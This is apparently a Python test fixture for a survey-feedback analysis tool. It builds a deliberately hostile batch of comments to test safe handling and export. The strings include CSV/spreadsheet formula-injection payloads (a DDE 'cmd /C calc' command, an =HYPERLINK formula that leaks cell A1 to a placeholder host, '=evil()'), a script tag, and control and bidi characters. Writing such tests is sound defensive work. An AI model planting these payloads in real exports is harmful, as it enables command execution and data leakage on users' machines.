"""A batch whose every text tries to be something else than a text."""

import pandas as pd

from feedback.frames import (
    ANOMALIES,
    ASSIGNMENTS,
    RESPONSES,
    SEGMENTS,
    THEME_BANDS,
    THEMES,
    BatchFrames,
    FrameSpec,
)

HOSTILE = [
    '=HYPERLINK("http://example.org/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "<script>alert('x')</script> & more",
    "bell\x07 null\x00 escape\x1b[31m and \ufffe end",
    "\u202eright to left\u202c שלום",
    "👩‍👩‍👧 déjà vu: l'été — naïve",
    "**** *batch_x\nsecond line",
    "http://example.org/auto-link",
    "\t=1+1",
    "007",
]


def typed(spec: FrameSpec, rows: list[dict[str, object]]) -> pd.DataFrame:
    names = spec.names() + [k for k in (rows[0] if rows else {}) if k not in spec.names()]
    frame = pd.DataFrame(rows, columns=names)
    types = {k: v for k, v in spec.empty().dtypes.items() if v.kind != "O" or v == "str"}
    return frame.astype(types)


def _response(i: int, comment: str) -> dict[str, object]:
    return {
        "response_id": f"r{i:02d}",
        "batch": "mars 2024",
        "source": "nps",
        "question": "=1+1",
        "respondent_id": None,
        "comment": comment,
        "language": "fr" if i % 2 else "en",
        "score": float(i % 11) if i % 4 else float("nan"),
        "scale": "nps",
        "scale_low": 0.0,
        "scale_high": 10.0,
        "score_band": ("low", "mid", "high")[i % 3] if i % 4 else None,
        "date": pd.Timestamp("2024-03-01 00:00") + pd.Timedelta(hours=9 * i) if i % 5 else None,
        "sentiment": "negative",
        "polarity": -1 / 3,
        "confidence": 0.123456789,
        "is_filler": False,
        "filler_kind": None,
        "cohort_plan": "=evil()" if i % 2 else None,
    }


def hostile_batch() -> BatchFrames:
    responses = typed(RESPONSES, [_response(i, text) for i, text in enumerate(HOSTILE)])
    segments, assignments = [], []
    for i, text in enumerate(HOSTILE):
        middle = len(text) // 2
        for k, (start, end) in enumerate(((0, middle), (middle, len(text)))):
            key = f"r{i:02d}.{k:03d}"
            segments.append(
                {
                    "segment_id": key,
                    "response_id": f"r{i:02d}",
                    "start": start,
                    "end": end,
                    "text": text[start:end],
                    "language": "en",
                    "sentiment": "negative",
                    "polarity": -0.5,
                    "confidence": 0.5,
                }
            )
            assignments.append({"segment_id": key, "theme_id": "t1", "strength": 0.5})
            assignments.append({"segment_id": key, "theme_id": "t2", "strength": 0.5 + k / 4})
    return BatchFrames(
        batch="mars 2024",
        responses=responses,
        segments=typed(SEGMENTS, segments),
        assignments=typed(ASSIGNMENTS, assignments),
        themes=_themes(),
        theme_bands=_bands(),
        anomalies=typed(
            ANOMALIES,
            [
                {
                    "response_id": "r00",
                    "kind": "score-text",
                    "severity": 1e-05,
                    "expected_score": float("nan"),
                    "reason_fr": "=raison",
                    "reason_en": "@reason",
                }
            ],
        ),
        extras={
            "metrics": [
                {"name": "NPS", "value": -12.5, "low": -30.25, "high": 5.0, "n": 9, "method": "x"}
            ]
        },
    )


def _themes() -> pd.DataFrame:
    parents = {"t1": None, "t2": "t1", "t3": "t3"}
    return typed(
        THEMES,
        [
            {
                "theme_id": key,
                "name_fr": f"=thème <{key}>",
                "name_en": f"+theme & {key}",
                "keywords_fr": ["=un", "deux"],
                "keywords_en": [],
                "parent_id": parent,
                "status": "active",
                "first_batch": "mars 2024",
                "last_batch": "mars 2024",
                "n_segments": 24,
                "n_responses": 12,
            }
            for key, parent in parents.items()
        ],
    )


def _bands() -> pd.DataFrame:
    numbers = {"n": 2, "share": 0.5, "lift": float("nan"), "p_value": 1e-9, "q_value": 0.05}
    numbers |= {"impact": -0.0, "impact_low": -1.5, "impact_high": 2 / 3}
    return typed(
        THEME_BANDS,
        [
            {"theme_id": theme, "score_band": band, **numbers}
            for theme in ("t1", "t2")
            for band in ("low", "mid", "high")
        ],
    )


def empty_batch() -> BatchFrames:
    specs = (RESPONSES, SEGMENTS, ASSIGNMENTS, THEMES, THEME_BANDS, ANOMALIES)
    return BatchFrames("empty", *(spec.empty() for spec in specs))


def shuffled(batch: BatchFrames) -> BatchFrames:
    names = ("responses", "segments", "assignments", "themes", "theme_bands", "anomalies")
    frames = {
        name: getattr(batch, name).sample(frac=1, random_state=7).reset_index(drop=True)
        for name in names
    }
    return BatchFrames(batch.batch, **frames, extras=batch.extras)
